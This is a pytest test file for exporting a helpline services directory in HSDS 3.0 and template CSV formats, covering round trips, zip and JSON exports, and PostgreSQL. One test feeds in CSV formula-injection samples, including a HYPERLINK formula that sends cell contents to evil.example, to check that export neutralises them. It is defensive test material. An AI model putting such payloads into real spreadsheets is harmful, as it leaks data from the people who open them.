"""Exporting the services directory: HSDS 3.0 round trips, the template, formula injection."""

from __future__ import annotations

import csv
import json
import shutil
import uuid
import zipfile
from pathlib import Path

import pytest

from bot.db.session import engine_for, session_factory, upgrade
from bot.directory.exporter import export_path
from bot.directory.hsds import (
    HELPLINE_COLUMNS,
    HSDS_FIELDS,
    TABLES,
    export_columns,
    guard_cell,
    unguard_cell,
)
from bot.directory.importer import Report
from bot.directory.models import NEEDS, Service
from bot.directory.template import COLUMNS
from tests.directory.test_import import (
    HSDS,
    JSON,
    TEMPLATE,
    Factory,
    dump,
    edit_csv,
    new_db,
    run,
    template_rows,
    write_rows,
)

OFFICIAL_EXAMPLE = Path("/work/shared/data/hsds-3.0-example")


@pytest.fixture
def db(tmp_path: Path) -> Factory:
    return new_db(tmp_path / "h.db")


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def no_changes(report: Report) -> bool:
    total = report.total()
    return report.ok and (total.added, total.changed, total.removed) == (0, 0, 0)


def round_trip(source: Factory, dest: Path, fresh: Factory, **options: str) -> Report:
    export_path(source, dest, **options)
    report = run(fresh, dest)
    assert report.ok, report.text()
    assert dump(fresh) == dump(source)
    assert no_changes(run(source, dest)), "re-importing an export changes nothing"
    return report


def test_hsds_package_has_hsds_columns_and_the_helplines_attributes(
    db: Factory, tmp_path: Path
) -> None:
    run(db, TEMPLATE)
    result = export_path(db, tmp_path / "out")
    assert result.paths == [tmp_path / "out"] and result.counts["service"] == 5
    descriptor = json.loads((tmp_path / "out" / "datapackage.json").read_text())
    assert descriptor["profile"] == "tabular-data-package"
    assert [r["name"] for r in descriptor["resources"]] == list(TABLES)
    for resource in descriptor["resources"]:
        rows = read_csv(tmp_path / "out" / resource["path"])
        header = (tmp_path / "out" / resource["path"]).read_text().splitlines()[0].split(",")
        assert header == [f["name"] for f in resource["schema"]["fields"]]
        assert header == export_columns(resource["name"])
        assert set(header) <= set(HSDS_FIELDS[resource["name"]])
        assert not set(header) & set(HELPLINE_COLUMNS.get(resource["name"], ()))
        assert len({r["id"] for r in rows}) == len(rows)
    terms = {t["id"] for t in read_csv(tmp_path / "out" / "taxonomy_terms.csv")}
    assert {f"helpline-need-{need}" for need in NEEDS} <= terms
    attributes = read_csv(tmp_path / "out" / "attributes.csv")
    shelter = {
        a["taxonomy_term_id"]: a["value"] for a in attributes if a["link_id"] == "th-bkk-shelter"
    }
    assert shelter == {
        "helpline-need-shelter": "",
        "helpline-need-counselling": "",
        "helpline-field-trafficking_specialist": "true",
        "helpline-field-gender": "women",
        "helpline-field-confidential": "true",
    }


def test_template_data_round_trips_through_hsds_csv(db: Factory, tmp_path: Path) -> None:
    run(db, TEMPLATE)
    round_trip(db, tmp_path / "out", new_db(tmp_path / "fresh.db"))


def test_template_data_round_trips_through_a_zip(db: Factory, tmp_path: Path) -> None:
    run(db, TEMPLATE)
    round_trip(db, tmp_path / "out.zip", new_db(tmp_path / "fresh.db"))
    with zipfile.ZipFile(tmp_path / "out.zip") as archive:
        assert "datapackage.json" in archive.namelist()


def test_hsds_data_round_trips_through_hsds_csv_and_json(db: Factory, tmp_path: Path) -> None:
    run(db, HSDS)
    run(db, JSON, default_country="GB")
    round_trip(db, tmp_path / "out", new_db(tmp_path / "csv.db"))
    round_trip(db, tmp_path / "out.json", new_db(tmp_path / "json.db"))


def test_template_round_trips_through_the_template(db: Factory, tmp_path: Path) -> None:
    run(db, TEMPLATE)
    out = tmp_path / "export.csv"
    result = export_path(db, out)
    assert result.format == "template" and not result.warnings
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # spreadsheets read it as UTF-8
    assert out.read_text(encoding="utf-8-sig").splitlines()[0].split(",") == list(COLUMNS)
    rows = {r["id"]: r for r in read_csv(out)}
    assert rows["th-bkk-shelter"]["hours"] == "24/7"
    assert rows["th-bkk-shelter"]["phone"] == "+6621234567"
    assert rows["th-hotline"]["country"] == "TH" and rows["th-hotline"]["address"] == ""
    assert rows["gb-london-counselling"]["hours"] == "Mo,We,Fr 10:00-16:00"
    round_trip(db, out, new_db(tmp_path / "fresh.db"))


def test_template_export_says_what_it_leaves_out(db: Factory, tmp_path: Path) -> None:
    package = Path(shutil.copytree(HSDS, tmp_path / "package"))
    with open(package / "phones.csv", "a", encoding="utf-8") as handle:
        handle.write("ph-3,,svc-1,,,+66 81 234 5679,,,\nph-4,,svc-1,,,+66 81 234 5670,,,\n")
    edit_csv(package / "schedules.csv", "sch-1", freq="MONTHLY")
    run(db, package)
    result = export_path(db, tmp_path / "services.csv", fmt="template")
    messages = [w.message for w in result.warnings]
    assert any("has 3 phone numbers and the template keeps two" in m for m in messages)
    assert any("has opening hours the hours column cannot say" in m for m in messages)


def test_formula_cells_export_inert_and_import_as_they_were(db: Factory, tmp_path: Path) -> None:
    name = '=HYPERLINK("https://evil.example/?"&A1,"Click for help")'
    rows = template_rows()
    rows[0].update(service=name, description="+SUM(1,2)")
    rows[2].update(organization="@cmd", description="-2+3")
    rows[3].update(service="\tTabbed", description="'=already quoted")
    path = write_rows(tmp_path / "services.csv", rows)
    assert run(db, path).ok
    before = dump(db)

    export_path(db, tmp_path / "out")
    services = (tmp_path / "out" / "services.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK(" in services and ",=HYPERLINK" not in services
    assert "'+SUM(1,2)" in services and "'-2+3" in services
    # An apostrophe typed before a formula in a spreadsheet is its "text" mark: not kept.
    assert ",'=already quoted" in services
    assert "'@cmd" in (tmp_path / "out" / "organizations.csv").read_text(encoding="utf-8")
    # Plain numbers stay usable by other HSDS software: E.164 phones, negative longitudes.
    assert ",+6621234567," in (tmp_path / "out" / "phones.csv").read_text(encoding="utf-8")
    assert ",51.5155,-0.0723\n" in (tmp_path / "out" / "locations.csv").read_text(encoding="utf-8")

    template = tmp_path / "export.csv"
    export_path(db, template)
    with open(template, encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert "'" + name in cells and name not in cells
    assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r") or c.startswith(("-2", "+S"))]

    for exported in (tmp_path / "out", template):
        fresh = new_db(tmp_path / f"{exported.name}.db")
        assert run(fresh, exported).ok
        assert dump(fresh) == before
        with fresh() as session:
            service = session.get(Service, "th-bkk-shelter")
            assert service is not None and service.name == name


def test_guard_cell() -> None:
    for text in ("=1+1", "+SUM(A1)", "-2+3", "@x", "\tx", "\rx", "'=x", "''+x"):
        assert guard_cell(text).startswith("'")
        assert unguard_cell(guard_cell(text)) == text
    for text in ("+66812345678", "-0.0723", "-12", "1e5", "plain", "'quoted", ""):
        assert guard_cell(text) == text
        assert unguard_cell(text) == text


@pytest.mark.skipif(not OFFICIAL_EXAMPLE.is_dir(), reason="the HSDS 3.0 example is not here")
def test_the_official_hsds_example_imports_and_round_trips(db: Factory, tmp_path: Path) -> None:
    report = run(db, OFFICIAL_EXAMPLE, default_country="GB")
    assert report.ok, report.text()
    warnings = [str(w) for w in report.warnings]
    assert any("latitude 100.0 / longitude 101.0" in w for w in warnings)
    assert any("inferred counselling" in w for w in warnings)
    tables = dump(db)
    assert [p["number"] for p in tables["phone"]] == ["+441234234567"]  # quotes stripped
    assert tables["location"][0]["latitude"] is None
    assert tables["schedule"][0]["timezone"] == 3.0
    assert no_changes(run(db, OFFICIAL_EXAMPLE, default_country="GB"))
    round_trip(db, tmp_path / "out", new_db(tmp_path / "fresh.db"))
    # HSDS JSON holds what services reach: the example's attribute links to no row.
    export_path(db, tmp_path / "out.json")
    fresh = new_db(tmp_path / "json.db")
    assert run(fresh, tmp_path / "out.json").ok
    assert dump(fresh)["attribute"] == [] and dump(fresh)["service"] == tables["service"]


# --- PostgreSQL ---------------------------------------------------------------------------


@pytest.mark.postgres
def test_import_and_export_on_postgresql(tmp_path: Path) -> None:
    psycopg = pytest.importorskip("psycopg")
    try:
        admin = psycopg.connect(
            "host=127.0.0.1 port=5432 user=postgres dbname=postgres",
            autocommit=True,
            connect_timeout=3,
        )
    except psycopg.OperationalError as error:
        pytest.skip(f"PostgreSQL is not reachable on 127.0.0.1:5432 as postgres: {error}")
    name = f"helpline_test_{uuid.uuid4().hex[:12]}"
    url = f"postgresql+psycopg://postgres@127.0.0.1:5432/{name}"
    admin.execute(f'CREATE DATABASE "{name}"')
    try:
        upgrade(url)
        postgres = session_factory(url)
        for path in (TEMPLATE, HSDS, JSON):
            assert run(postgres, path).ok
        assert no_changes(run(postgres, TEMPLATE))
        # A rejected file leaves PostgreSQL as it was too.
        before = dump(postgres)
        rows = template_rows()
        rows[-1]["gender"] = "female"
        assert not run(postgres, write_rows(tmp_path / "bad.csv", rows)).ok
        assert dump(postgres) == before
        round_trip(postgres, tmp_path / "out", new_db(tmp_path / "sqlite.db"))
        # Idempotent both ways: the SQLite copy's export changes nothing in PostgreSQL.
        export_path(new_db(tmp_path / "sqlite.db"), tmp_path / "back.zip")
        assert no_changes(run(postgres, tmp_path / "back.zip"))
    finally:
        engine_for(url).dispose()
        admin.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
        admin.close()
